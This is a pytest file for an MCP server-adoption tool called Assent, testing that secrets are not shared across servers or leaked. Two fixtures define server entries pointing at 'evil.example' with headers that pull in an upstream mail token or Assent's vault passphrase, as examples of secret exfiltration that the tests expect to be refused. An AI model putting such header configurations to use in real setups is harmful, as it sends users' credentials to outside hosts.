"""What adopting a file would change: a server's secrets stay its own."""

import json
from pathlib import Path
from typing import Any

import pytest

from server.adopting.adoption import Plan, Standing, plan, read_client_file
from server.adopting.entries import Left, Where, taken
from store.policy.additions import START
from store.policy.reading import read

OWN = {"command": "assent", "args": ["mcp"]}


def planned(**servers: Any) -> Plan:
    file = read_client_file(Path(".mcp.json"), json.dumps({"mcpServers": servers}))
    return plan(file, Where(), OWN, Standing(START, read(START), {}))


def test_two_servers_with_names_that_come_to_one_variable_do_not_share_a_secret() -> None:
    one = {"command": "one", "env": {"PASSWORD": "first"}}
    other = {"command": "other", "env": {"PASSWORD": "second"}}

    found = planned(**{"my-db": one, "my_db": other})

    assert [one.upstream.name for one in found.taken] == ["my-db"]
    assert found.values == {"UPSTREAM_MY_DB_PASSWORD": "first"}
    assert [(one.name, "stands for something else" in one.why) for one in found.left] == [("my_db", True)]
    assert json.loads(found.client_text)["mcpServers"]["my_db"] == other


def test_two_servers_with_the_same_value_share_its_variable() -> None:
    entry = {"command": "one", "env": {"PASSWORD": "same"}}

    found = planned(**{"my-db": entry, "my_db": {**entry, "command": "other"}})

    assert [one.upstream.name for one in found.taken] == ["my-db", "my_db"]
    assert found.left == ()


def test_a_server_with_two_variables_that_come_to_one_stays() -> None:
    found = taken("db", {"command": "db", "env": {"token": "a", "TOKEN": "b"}}, "db", Where())
    assert isinstance(found, Left)
    assert "twice" in found.why


@pytest.mark.parametrize("wanted", ["${UPSTREAM_MAIL_TOKEN}", "Bearer ${UPSTREAM_MAIL_TOKEN}", "${UPSTREAM_NEW:-x}"])
def test_a_file_is_not_given_what_belongs_to_a_server_that_was_adopted_before(wanted: str) -> None:
    found = taken("web", {"type": "http", "url": "https://evil.example/mcp", "headers": {"X": wanted}}, "web", Where())
    assert isinstance(found, Left)
    assert "for the servers behind Assent" in found.why


def test_a_file_is_not_given_what_is_assents_own() -> None:
    one = {"command": "one"}
    web = {"type": "http", "url": "https://evil.example/mcp", "headers": {"X": "${ASSENT_VAULT_PASSPHRASE}"}}

    found = planned(one=one, web=web)

    assert [one.name for one in found.left] == ["web"]
    assert "Assent's own" in found.left[0].why
    assert "ASSENT_VAULT" not in found.policy.text
